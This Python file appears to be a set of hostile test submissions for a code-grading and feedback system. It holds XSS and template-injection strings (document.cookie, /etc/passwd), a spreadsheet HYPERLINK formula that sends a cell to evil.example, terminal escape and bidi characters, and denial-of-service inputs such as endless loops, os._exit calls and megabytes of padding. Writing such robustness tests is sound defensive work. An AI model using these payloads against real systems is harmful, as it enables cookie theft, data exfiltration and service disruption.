"""To say something that hurts whoever reads it: pages, spreadsheets, terminals, parsers."""

from attacks import FEW, IMPORTS, RELU, Attack, cell, function

WORDS = r"""
HTML = '</pre></div><script>alert(document.cookie)</script><img src=x onerror=alert(1)>{{ 7*7 }}{% include "/etc/passwd" %}'
SHEET = '=HYPERLINK("http://evil.example/?" & A1)'
SCREEN = '\x1b[2J\x1b]0;owned\x07\x1b[31m\r\n\0\x08' + chr(0x202e) + chr(0x2066) + chr(0xfeff)
BROKEN = chr(0xd800) + chr(0xdfff) + chr(0xffff)
ALL = HTML + SHEET + SCREEN
"""

ATTACKS = [
    function(
        "hostile message",
        "break the page with a message",
        "raise ValueError(ALL + '`' + ALL + '`')",
        before=WORDS,
    ),
    function(
        "hostile class",
        "break the page with the name of a class",
        "raise type(ALL.replace('\\0', ''), (Exception,), {})",
        before=WORDS,
    ),
    function(
        "broken characters", "a message that no file can hold", "raise ValueError(BROKEN)", before=WORDS
    ),
    function("a novel", "a message of ten megabytes", "raise ValueError('x' * 10**7)", before=WORDS),
    function(
        "no words",
        "raise when asked for the message",
        "raise E",
        before="class E(BaseException):\n    def __str__(self): raise E\n    __repr__ = __str__",
    ),
    function(
        "deadly words",
        "exit when asked for the message",
        "raise E",
        before="class E(Exception):\n    def __str__(self): os._exit(0)",
    ),
    function(
        "endless words",
        "loop when asked for the message",
        "raise E",
        before="class E(Exception):\n    def __str__(self):\n        while True: pass",
    ),
    function(
        "words of another kind",
        "a message that is a subclass of str",
        "raise E",
        before="""
            class S(str):
                def __getitem__(self, _): return [1]
            class E(Exception):
                def __str__(self): return S('x')
        """,
    ),
    function(
        "a line far away",
        "an error in a line that does not exist",
        "error = SyntaxError('x')\nerror.lineno, error.text = 10**30, ALL\nraise error",
        before=WORDS,
    ),
    cell(
        "hostile cell",
        "break the page with an error of a cell",
        WORDS + "raise type('<b>E', (Exception,), {})(ALL)",
    ),
    cell(
        "hostile names",
        "functions with names that break pages",
        WORDS
        + """
for name in (HTML, SHEET, SCREEN, '../../x', 'x' * 10**5):
    globals()[name] = lambda: None
    globals()[name].__name__ = name
""",
    ),
    Attack(
        "hostile near miss",
        "be named in the feedback for a missing function",
        (
            IMPORTS,
            """
names = ['double<', 'doubl`<i>', 'Double' + chr(0x202e)]
for name in names: globals()[name] = lambda x: 2 * x
""",
            RELU,
            FEW,
        ),
    ),
    Attack(
        "quadratic page",
        "a megabyte of empty lines before an error",
        (IMPORTS, "\n" * 1_000_000 + "raise ValueError\n", RELU, FEW),
    ),
    Attack(
        "too long to run",
        "five megabytes of empty lines",
        (IMPORTS, "\n" * 5_000_000 + "x\n", RELU, FEW),
        rest=False,
    ),
    Attack(
        "many functions",
        "keep the search for copies busy",
        (
            IMPORTS,
            RELU,
            FEW,
            "".join(
                f"def f(a):return a{'+a' * (k % 7)}{'-a' * (k % 11)}{'*a' * (k % 13)}/a%a|a^a&a+a-a*a\n"
                for k in range(1500)
            ),
        ),
    ),
    Attack(
        "many functions, copied",
        "keep the search for copies busy, with an accomplice",
        (
            IMPORTS,
            RELU,
            FEW,
            "".join(
                f"def g(b):return b{'+b' * (k % 7)}{'-b' * (k % 11)}{'*b' * (k % 13)}/b%b|b^b&b+b-b*b\n"
                for k in range(1500)
            ),
        ),
    ),
]
